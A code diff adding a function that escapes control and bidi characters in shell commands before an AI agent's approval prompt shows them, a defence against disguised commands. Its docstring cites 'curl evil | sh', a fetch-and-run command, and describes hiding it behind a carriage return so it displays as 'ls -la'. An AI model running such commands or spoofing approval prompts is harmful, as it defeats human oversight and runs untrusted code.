@@ -34,6 +34,22 @@ class BashPermission:
         return self.ask is not None and self.ask(command)
 
 
+def shown(command: str) -> str:
+    """The command as the approval prompt prints it: control and format characters (\\r,
+    ESC, bidi overrides) escaped, so what the person approves is what will run (a raw \\r
+    or ESC sequence let `curl evil | sh` show as `ls -la`)."""
+    import unicodedata
+
+    out = []
+    for char in command:
+        if unicodedata.category(char) in ("Cc", "Cf", "Zl", "Zp"):
+            escaped = repr(char)[1:-1]
+            out.append(escaped if escaped != char else f"\\u{ord(char):04x}")
+        else:
+            out.append(char)
+    return "".join(out)
+
+
 def run(workdir: Path, command: str, timeout: object = DEFAULT_TIMEOUT) -> tuple[str, bool]:
     """The command's output (stdout and stderr as they interleaved) and exit status; True when
     it failed. The command runs in its own session: on timeout the whole group is killed and
